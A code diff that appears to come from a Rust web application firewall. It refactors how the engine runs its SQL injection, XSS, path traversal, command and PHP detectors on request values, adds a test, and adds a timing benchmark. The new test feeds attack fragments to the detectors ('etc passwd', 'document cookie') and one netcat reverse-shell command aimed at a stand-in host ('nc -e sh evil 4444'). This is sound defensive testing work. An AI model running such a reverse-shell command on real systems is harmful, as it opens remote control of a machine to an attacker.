@@ -8,6 +8,7 @@ use crate::normalize::{url_decode, Views};
 use crate::patterns::is_one_of;
 use crate::rules::{self, Rule, Rules};
 use crate::{generic, java, lfi, php, rce, scanner, sqli, xss};
+use std::borrow::Cow;
 
 /// The parts of a request the engine looks at.
 #[derive(Debug, Clone, Copy)]
@@ -107,28 +108,34 @@ impl Engine {
         })
     }
 
-    /// Runs every value detector on one value.
-    fn value(&self, v: &Views, location: &str) -> Option<Finding> {
+    /// Runs every value detector on one value; `location` names it when a rule fires.
+    fn value(&self, v: &Views, location: impl FnOnce() -> String) -> Option<Finding> {
+        let id = self.value_id(v)?;
+        self.found(id, location())
+    }
+
+    /// The id of the first rule that fires on one value.
+    fn value_id(&self, v: &Views) -> Option<u32> {
         let r = &self.rules;
-        // A plain token (letters, digits, `_`, `-`) cannot hold markup, paths, shell or PHP
-        // syntax; only SQL words, Java class fragments and names like `__proto__` remain.
-        if v.lower
-            .bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
-        {
-            let id = sqli::detect(v, r)
+        // Words, digits, spaces, `_` and `-` cannot hold markup, paths, shell syntax beyond
+        // command words, or PHP syntax: every XSS, LFI and PHP pattern needs another byte
+        // (`text_skips_only_detectors_that_cannot_fire` checks it). SQL words, commands,
+        // Java class fragments and names like `__proto__` remain.
+        if v.bytes.only_alnum_and(b"_- ") {
+            // A single token has no command line either (no separator, no arguments).
+            let words = v.bytes.has(b' ');
+            return sqli::detect(v, r)
+                .or_else(|| words.then(|| rce::detect(v, r)).flatten())
                 .or_else(|| java::detect(v, r))
-                .or_else(|| generic::detect(v, r))?;
-            return self.found(id, location);
+                .or_else(|| generic::detect(v, r));
         }
-        let id = sqli::detect(v, r)
+        sqli::detect(v, r)
             .or_else(|| xss::detect(v, r))
             .or_else(|| lfi::detect(v, r))
             .or_else(|| rce::detect(v, r))
             .or_else(|| php::detect(v, r))
             .or_else(|| java::detect(v, r))
-            .or_else(|| generic::detect(v, r))?;
-        self.found(id, location)
+            .or_else(|| generic::detect(v, r))
     }
 
     /// Runs the detectors once on sample values so their pattern automata get built (used
@@ -141,7 +148,7 @@ impl Engine {
             "--",
             "__x",
         ] {
-            let _ = self.value(&Views::of_decoded(sample.to_string()), "warm-up");
+            let _ = self.value_id(&Views::of_decoded(sample.to_string()));
         }
     }
 
@@ -173,15 +180,14 @@ impl Engine {
                 f.name.clone()
             };
             if !name.is_empty() {
-                let loc = format!("{place}-name");
-                if let Some(found) = self.value(&Views::of_decoded(name.clone()), &loc) {
+                let loc = || format!("{place}-name");
+                if let Some(found) = self.value(&Views::of_decoded(name.clone()), loc) {
                     return Some(found);
                 }
                 // An encoded `=` hides a value in the name (`pay%3D…`): inspect it alone too.
                 if let Some((_, tail)) = name.split_once('=') {
                     if !tail.is_empty() {
-                        if let Some(found) = self.value(&Views::of_decoded(tail.to_string()), &loc)
-                        {
+                        if let Some(found) = self.value(&Views::of_decoded(tail.to_string()), loc) {
                             return Some(found);
                         }
                     }
@@ -189,16 +195,16 @@ impl Engine {
                 if generic::session_param(&name) {
                     let id = if referer_off_site { 943110 } else { 943120 };
                     if self.rules.on(id) && (id == 943110 || !f.value.is_empty()) {
-                        return self.found(id, loc);
+                        return self.found(id, loc());
                     }
                 }
             }
             if self.config.param_allowed(&name) {
                 continue;
             }
-            let loc = format!("{place}:{name}");
+            let loc = || format!("{place}:{name}");
             if f.filename {
-                if let Some(found) = self.filename(&f.value, &loc) {
+                if let Some(found) = self.filename(&f.value, &loc()) {
                     return Some(found);
                 }
             }
@@ -207,7 +213,7 @@ impl Engine {
             } else {
                 Views::of_decoded(f.value.clone())
             };
-            if let Some(found) = self.value(&views, &loc) {
+            if let Some(found) = self.value(&views, loc) {
                 return Some(found);
             }
         }
@@ -241,10 +247,16 @@ impl Engine {
     pub fn inspect_request(&self, req: &RequestParts) -> Option<Finding> {
         let path = url_decode(req.path, false);
         let path_views = Views::of_decoded(path);
-        if let Some(id) = lfi::detect_path(&path_views.lower.replace('\\', "/"), &self.rules) {
+        let lower = path_views.lower();
+        let slashed = if lower.contains('\\') {
+            Cow::Owned(lower.replace('\\', "/"))
+        } else {
+            Cow::Borrowed(lower)
+        };
+        if let Some(id) = lfi::detect_path(&slashed, &self.rules) {
             return self.found(id, "path");
         }
-        if let Some(f) = self.value(&path_views, "path") {
+        if let Some(f) = self.value(&path_views, || "path".into()) {
             return Some(f);
         }
         let off_site = self.referer_off_site(req);
@@ -254,11 +266,15 @@ impl Engine {
             }
         }
         for (name, value) in req.headers {
-            let name = name.to_ascii_lowercase();
-            if is_one_of(SKIPPED_HEADERS, name.as_str()) || name.starts_with("sec-") {
+            let name: Cow<str> = if name.bytes().any(|b| b.is_ascii_uppercase()) {
+                Cow::Owned(name.to_ascii_lowercase())
+            } else {
+                Cow::Borrowed(name)
+            };
+            if is_one_of(SKIPPED_HEADERS, &name) || name.starts_with("sec-") {
                 continue;
             }
-            let loc = format!("header:{name}");
+            let loc = || format!("header:{name}");
             if name == "cookie" {
                 if let Some(f) = self.cookies(value) {
                     return Some(f);
@@ -267,15 +283,15 @@ impl Engine {
             }
             if name == "user-agent" {
                 if let Some(id) = scanner::detect(value, &self.rules) {
-                    return self.found(id, loc);
+                    return self.found(id, loc());
                 }
             }
-            if is_one_of(FILENAME_HEADERS, name.as_str()) {
-                if let Some(f) = self.filename(&url_decode(value, false), &loc) {
+            if is_one_of(FILENAME_HEADERS, &name) {
+                if let Some(f) = self.filename(&url_decode(value, false), &loc()) {
                     return Some(f);
                 }
             }
-            if let Some(f) = self.value(&Views::of_encoded(value, false), &loc) {
+            if let Some(f) = self.value(&Views::of_encoded(value, false), loc) {
                 return Some(f);
             }
         }
@@ -290,14 +306,15 @@ impl Engine {
             }
             let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
             let name = url_decode(name.trim(), false);
-            if let Some(f) = self.value(&Views::of_decoded(name.clone()), "cookie-name") {
+            if let Some(f) = self.value(&Views::of_decoded(name.clone()), || "cookie-name".into()) {
                 return Some(f);
             }
             if self.config.param_allowed(&name) {
                 continue;
             }
-            if let Some(f) = self.value(&Views::of_encoded(value, false), &format!("cookie:{name}"))
-            {
+            if let Some(f) = self.value(&Views::of_encoded(value, false), || {
+                format!("cookie:{name}")
+            }) {
                 return Some(f);
             }
         }
@@ -386,6 +403,33 @@ mod tests {
         assert!(e.inspect_body(&req("/checkout", "", &ct), body).is_none());
     }
 
+    /// Values of letters, digits, spaces, `_` and `-` skip XSS, LFI and PHP: those detectors
+    /// find nothing in such text, attack words included.
+    #[test]
+    fn text_skips_only_detectors_that_cannot_fire() {
+        let r = Rules::new(2, &[]);
+        for s in [
+            "script alert 1",
+            "javascript vbscript",
+            "etc passwd boot ini",
+            "php input data",
+            "onload onerror x",
+            "x-moz-binding msgbox",
+            "document cookie",
+            "a-b_c 1 2",
+        ] {
+            let v = Views::of_decoded(s.into());
+            assert!(v.bytes.only_alnum_and(b"_- "), "{s}");
+            assert!(xss::detect(&v, &r).is_none(), "{s}");
+            assert!(lfi::detect(&v, &r).is_none(), "{s}");
+            assert!(php::detect(&v, &r).is_none(), "{s}");
+        }
+        // A command line of plain words still reaches the command detector.
+        let v = Views::of_decoded("nc -e sh evil 4444".into());
+        assert!(v.bytes.only_alnum_and(b"_- "));
+        assert!(engine("{}").value_id(&v).is_some());
+    }
+
     /// Pathological 64 KiB bodies (repeated tags, dots, comments, calls, quotes) are inspected
     /// without panicking; their cost shows in this test's run time.
     #[test]
@@ -467,5 +511,92 @@ mod timing {
             }
             println!("{name} {:?}/request", t.elapsed() / n);
         }
+    }
+}
+
+#[cfg(test)]
+mod timing_detail {
+    use super::*;
+    use std::time::Instant;
+
+    #[test]
+    #[ignore]
+    fn per_value_costs() {
+        let values = [
+            "/category/shoes/running", "red running shoes", "42", "price_asc", "2", "newsletter",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+            "https://shop.example/category/shoes?utm_source=newsletter&utm_medium=email",
+            "3f9a1c2b7d4e5f60718293a4b5c6d7e8", "analytics=1&ads=0", "{\"items\":2}", "GA1.2.123456789.1700000000",
+        ];
+        let r = Rules::new(2, &[]);
+        Engine::new(Config::parse(r#"{"paranoia":2}"#).unwrap()).warm_up();
+        type Det = fn(&Views, &Rules) -> Option<u32>;
+        let dets: [(&str, Det); 7] = [
+            ("sqli", sqli::detect),
+            ("xss", xss::detect),
+            ("lfi", lfi::detect),
+            ("rce", rce::detect),
+            ("php", php::detect),
+            ("java", java::detect),
+            ("generic", generic::detect),
+        ];
+        let n = 3000;
+        for v in values {
+            if std::env::var("WAF_SPIN").is_ok() {
+                break;
+            }
+            let views = Views::of_decoded(v.to_string());
+            let mut line = format!("{:<30}", v.chars().take(28).collect::<String>());
+            let t = Instant::now();
+            for _ in 0..n {
+                std::hint::black_box(Views::of_decoded(v.to_string()));
+            }
+            line += &format!(" views {:>6}", (t.elapsed() / n).as_nanos());
+            for (name, d) in dets {
+                let t = Instant::now();
+                for _ in 0..n {
+                    std::hint::black_box(d(&views, &r));
+                }
+                line += &format!(" {name} {:>6}", (t.elapsed() / n).as_nanos());
+            }
+            println!("{line}");
+        }
+        let e = Engine::new(Config::parse(r#"{"paranoia":2}"#).unwrap());
+        let h: Vec<(String, String)> = [
+            ("host", "shop.example"),
+            ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
+            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+            ("accept-language", "en-GB,en;q=0.9,de;q=0.8"),
+            ("accept-encoding", "gzip, deflate, br, zstd"),
+            ("referer", "https://shop.example/category/shoes?utm_source=newsletter&utm_medium=email"),
+            ("cookie", "session=3f9a1c2b7d4e5f60718293a4b5c6d7e8; consent=analytics%3D1%26ads%3D0; cart=%7B%22items%22%3A2%7D; _ga=GA1.2.123456789.1700000000"),
+            ("sec-fetch-dest", "document"),
+            ("sec-fetch-mode", "navigate"),
+            ("upgrade-insecure-requests", "1"),
+        ].iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
+        let req = RequestParts {
+            path: "/category/shoes/running",
+            query: "q=red+running+shoes&size=42&sort=price_asc&page=2&utm_source=newsletter",
+            headers: &h,
+            client_ip: "203.0.113.9",
+        };
+        let mut samples = Vec::new();
+        for _ in 0..n {
+            let t = Instant::now();
+            std::hint::black_box(e.inspect_request(&req));
+            samples.push(t.elapsed().as_nanos());
+        }
+        if let Ok(n) = std::env::var("WAF_SPIN") {
+            for _ in 0..n.parse::<u32>().unwrap_or(0) {
+                std::hint::black_box(e.inspect_request(&req));
+            }
+            return;
+        }
+        samples.sort();
+        println!(
+            "whole request p50 {} ns p99 {} ns",
+            samples[samples.len() / 2],
+            samples[samples.len() * 99 / 100]
+        );
     }
 }
